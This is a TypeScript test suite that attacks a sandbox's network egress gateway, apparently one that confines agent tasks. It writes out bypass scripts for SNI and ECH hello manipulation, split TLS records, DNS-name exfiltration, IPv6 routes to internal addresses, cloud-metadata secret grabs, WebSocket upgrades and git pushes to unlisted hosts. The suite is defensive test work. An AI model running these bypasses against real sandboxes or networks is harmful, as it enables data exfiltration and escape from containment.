import type { EgressSettings } from "@farhand/protocol";
import { type Arena, LIMITS, USUAL_EGRESS } from "./arena.ts";
import type { Attack, Attempt } from "./attack.ts";
import { client, connect, get, OPEN, PROOF } from "./egress-client.ts";
import { BRIDGE, type Ran } from "./engine.ts";
import { type Lifted, throughLifted } from "./lifted-gateway.ts";
import { NAIVE_PROXY_PORT } from "./naive-proxy.ts";
import { onTheBridge } from "./network.ts";
import { type ShellAttack, shellAttack } from "./shell-attack.ts";
import { METADATA_ADDRESS, METADATA_SECRET, newWord } from "./targets.ts";

const AREA = "egress";
const MIB = 1024 ** 2;

/** Played in the control through the real gateway without the one bound. */
const against = (
  lifted: Lifted,
  spec: Pick<ShellAttack, "name" | "by" | "worked"> & { script(word: string): string },
): Attack =>
  shellAttack({
    area: AREA,
    without: throughLifted(lifted),
    proof: OPEN,
    ...spec,
    script: ({ word }) => client(`${PROOF}${spec.script(word)}`),
  });

/** A hello with one more extension, which has the word in it. */
const WITH_EXTENSION = `def with_extension(record, kind, content):
    body = bytearray(record[5:]); at = 4 + 2 + 32
    at += 1 + body[at]; at += 2 + int.from_bytes(body[at:at+2], "big"); at += 1 + body[at]
    more = kind.to_bytes(2, "big") + len(content).to_bytes(2, "big") + content
    size = int.from_bytes(body[at:at+2], "big") + len(more)
    body[at:at+2] = size.to_bytes(2, "big"); body += more
    body[1:4] = (len(body) - 4).to_bytes(3, "big")
    return bytes(record[:3]) + len(body).to_bytes(2, "big") + bytes(body)
`;

/** The hello in two records, cut in the middle of the name, but not of the word in it. */
const IN_TWO = `def in_two(record, word):
    body = record[5:]; cut = body.index(word) + len(word) + 3
    return b"".join(record[:3] + len(part).to_bytes(2, "big") + part for part in (body[:cut], body[cut:]))
`;

const count = (times: number, request: string) => `import sys, io
taken = 0
for n in range(${times}):
    quiet, sys.stdout = sys.stdout, io.StringIO()
    text = ${request}
    sys.stdout = quiet
    if " 200 " in text[:16]: taken += len(text)
    elif "rule" in text: print(text[:200]); break
else: print("ALL OF IT")
`;

/** More than the cap, in the heads of requests alone. */
const HEAD_BYTES = 12_000;
const HEADS = Math.ceil((1.5 * LIMITS.egressMiB * MIB) / HEAD_BYTES);
/** What is asked for at once of what is more than the cap in all. */
const PART = (LIMITS.egressMiB * MIB) / 2;

const MANY_CONNECTIONS = 60;
/** What the gateway lets a task have at once, with room for one that is just ending. */
const MOST_CONNECTIONS = 40;

const gotAll = (_aim: unknown, { output }: Ran) => output.includes("ALL OF IT");
const gotMetadata = (_aim: unknown, { output }: Ran) => output.includes(METADATA_SECRET);

export const egressWallAttacks: Attack[] = [
  against("policy", {
    name: "a second name, encrypted in the hello (ECH)",
    by: "no encrypted name where some hosts are closed",
    script: (word) =>
      `${WITH_EXTENSION}${connect("allowed.example.com:443", `with_extension(hello("allowed.example.com"), 0xfe0d, b"${word}")`)}`,
  }),
  shellAttack({
    area: AREA,
    name: "another server's name in a hello that is cut in two",
    by: "a hello is read however it is cut",
    without: onTheBridge,
    proof: OPEN,
    script: ({ word }) =>
      client(
        `${PROOF}${IN_TWO}${connect("allowed.example.com:443", `in_two(hello("${word}.foreign.example.com"), b"${word}")`)}`,
      ),
  }),
  against("bytes", {
    name: "bytes in the heads of requests",
    by: "heads count as bytes of the turn",
    script: () =>
      count(
        HEADS,
        `ask("GET http://allowed.example.com/ HTTP/1.1\\r\\nHost: allowed.example.com\\r\\nX-Out: " + "x" * ${HEAD_BYTES})`,
      ),
    worked: gotAll,
  }),
  against("bytes", {
    name: "more bytes than a turn may send",
    by: "a cap on a turn's bytes",
    script:
      () => `s = door(); s.sendall(b"CONNECT allowed.example.com:443 HTTP/1.1\\r\\nHost: allowed.example.com:443\\r\\n\\r\\n"); read(s)
s.settimeout(20); s.sendall(hello("allowed.example.com"))
try:
    for n in range(${2 * LIMITS.egressMiB}): s.sendall(b"x" * ${MIB})
    s.settimeout(1)
    try: print("cut" if s.recv(1) == b"" else "answered")
    except TimeoutError: print("ALL OF IT")
except OSError as error: print("cut:", error)`,
    worked: gotAll,
  }),
  against("bytes", {
    name: "more bytes than a turn may receive",
    by: "a cap on a turn's bytes",
    script: () => `got = 0
while got < ${2 * LIMITS.egressMiB * MIB}:
    s = door(); s.sendall(b"GET http://allowed.example.com/?bytes=${PART} HTTP/1.1\\r\\nHost: allowed.example.com\\r\\n\\r\\n"); before = got
    try:
        while True:
            more = s.recv(65536)
            if not more: break
            got += len(more)
    except OSError as error: print(error)
    if got - before < ${PART}: print("refused after", got); break
else: print("ALL OF IT")`,
    worked: gotAll,
  }),
  against("egress-connections", {
    name: "many connections at once",
    by: "a cap on a task's connections",
    script: () => `open_ones = []
for n in range(${MANY_CONNECTIONS}):
    try:
        s = door(); s.sendall(b"CONNECT allowed.example.com:443 HTTP/1.1\\r\\nHost: allowed.example.com:443\\r\\n\\r\\n")
        if " 200 " in read(s)[:16]: s.sendall(hello("allowed.example.com")); open_ones.append(s)
    except OSError as error: print(error)
print("open:", len(open_ones))`,
    worked: (_aim, { output }) => Number(/open: (\d+)/.exec(output)?.[1]) > MOST_CONNECTIONS,
  }),
  idleAttack(),
  against("policy", {
    name: "DNS through the proxy, by names that carry data",
    by: "a name that may not be reached is not looked up",
    script: (word) =>
      [
        connect(`${word}.exfiltrated.test:443`, `hello("${word}.exfiltrated.test")`),
        get(`http://${word}.exfiltrated.test/`, `${word}.exfiltrated.test`),
        connect(`${word}.allowed.example.com:443`, `hello("x")`),
      ].join("\n"),
  }),
  against("addresses", {
    name: "allowed names with IPv6 addresses that lead inside (ULA, NAT64, 6to4)",
    by: "addresses are checked after the name is resolved",
    script: (word) =>
      ["ula", "nat64", "6to4"]
        .map((name) => get(`http://${name}.example.com:7002/${word}-${name}`, `${name}.example.com:7002`))
        .join("\n"),
    // In the control every one of them has to work, in the attack none may.
    worked: async ({ arena, word }) => {
      const seen = await Promise.all(
        ["ula", "nat64", "6to4"].map((name) => arena.targets.sees(`${word}-${name}`)),
      );
      const got = seen.filter((target) => target !== null).length;
      if (got > 0 && got < seen.length) throw new Error(`only ${got} of ${seen.length} got through`);
      return got > 0;
    },
  }),
  underMode({ mode: "none", hosts: USUAL_EGRESS.hosts }, "the mode none"),
  underMode({ mode: "packages", hosts: [] }, "the mode packages"),
  {
    area: AREA,
    name: "addresses inside, where all hosts may be reached",
    by: "addresses are checked in the mode all too",
    async try(arena) {
      return await withEgress(arena, { mode: "all", hosts: [] }, async () => {
        const { output } = await arena.agent.run(client(`${PROOF}${reachInside}`));
        if (!output.includes(OPEN) || !output.includes("taken by the internet"))
          throw new Error(`the mode all is not open: ${output.slice(-500)}`);
        return { succeeded: gotMetadata(null, { exitCode: 0, output }), evidence: output.slice(-300) };
      });
    },
    async control(arena) {
      const control = arena.control(throughLifted("policy-and-addresses"));
      const { output } = await control.run(client(`${PROOF}${reachInside}`));
      return { succeeded: gotMetadata(null, { exitCode: 0, output }), evidence: output.slice(-300) };
    },
  },
  against("policy", {
    name: "a WebSocket to a host that is not on the list",
    by: "the policy, in the gateway's proxy",
    script: (
      word,
    ) => `upgrade = "\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
ask("GET http://foreign.example.com/${word} HTTP/1.1\\r\\nHost: foreign.example.com" + upgrade)
ask("GET ws://foreign.example.com/${word} HTTP/1.1\\r\\nHost: foreign.example.com" + upgrade)
ask("CONNECT foreign.example.com:80 HTTP/1.1\\r\\nHost: foreign.example.com:80", b"GET /${word} HTTP/1.1\\r\\nHost: foreign.example.com\\r\\n\\r\\n")`,
  }),
  shellAttack({
    area: AREA,
    name: "a git remote that is not on the list, by the proxy of the environment",
    by: "the policy, in the gateway's proxy",
    without: onTheBridge,
    proof: OPEN,
    script: ({ word }) => `export http_proxy="\${http_proxy:-http://${BRIDGE.v4}:${NAIVE_PROXY_PORT}}"
curl -sS -m 5 http://allowed.example.com/ | grep -q 'taken by the internet' && echo '${OPEN}'
rm -rf /tmp/r && git init -q /tmp/r && cd /tmp/r && git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x
for scheme in http https; do timeout 8 git push "$scheme://foreign.example.com/${word}.git" HEAD:main; done
timeout 8 git -c http.curloptResolve=allowed.example.com:80:${METADATA_ADDRESS} ls-remote "http://${word}@foreign.example.com/x.git"`,
  }),
];

const reachInside = [
  get("http://foreign.example.com/", "foreign.example.com"),
  get("http://metadata.example.com/latest/", "metadata.example.com"),
  get(`http://${METADATA_ADDRESS}/latest/`, METADATA_ADDRESS),
].join("\n");

/** Played through the real gateway in both runs, since five minutes are too long to wait for. */
function idleAttack(): Attack {
  const script =
    client(`s = door(); s.sendall(b"CONNECT allowed.example.com:443 HTTP/1.1\\r\\nHost: allowed.example.com:443\\r\\n\\r\\n")
print("${OPEN}" if " 200 " in read(s)[:16] else "closed")
s.sendall(hello("allowed.example.com")); s.settimeout(5)
try: print("CUT" if s.recv(1) == b"" else "answered")
except TimeoutError: print("STILL OPEN")
except OSError: print("CUT")`);
  const play = async (arena: Arena, lifted: Lifted): Promise<Attempt> => {
    const { output } = await arena.control(throughLifted(lifted)).run(script);
    if (!output.includes(OPEN)) throw new Error(`the way is not open: ${output}`);
    return { succeeded: output.includes("STILL OPEN"), evidence: output.trim() };
  };
  return {
    area: AREA,
    name: "a connection on which nothing moves",
    by: "a limit on how long one may be idle",
    try: (arena) => play(arena, "idle-second"),
    control: (arena) => play(arena, "idle"),
  };
}

/** The same request where the person has chosen so, and where the host is on the list. */
function underMode(settings: EgressSettings, name: string): Attack {
  const play = async (arena: Arena): Promise<Attempt> => {
    const word = newWord();
    const { output } = await arena.agent.run(
      client(
        [
          connect("allowed.example.com:443", `hello("allowed.example.com")`),
          get(`http://allowed.example.com/${word}`, "allowed.example.com"),
        ].join("\n"),
      ),
    );
    return { succeeded: (await arena.targets.sees(word)) !== null, evidence: output.slice(-300) };
  };
  return {
    area: AREA,
    name: `a host that was on the list, in ${name}`,
    by: "the policy is asked for at each connection",
    try: (arena) => withEgress(arena, settings, () => play(arena)),
    control: play,
  };
}

async function withEgress<T>(arena: Arena, settings: EgressSettings, work: () => Promise<T>): Promise<T> {
  await arena.world.client.setEgress(settings);
  try {
    return await work();
  } finally {
    await arena.world.client.setEgress({ ...USUAL_EGRESS, hosts: [...USUAL_EGRESS.hosts] });
  }
}
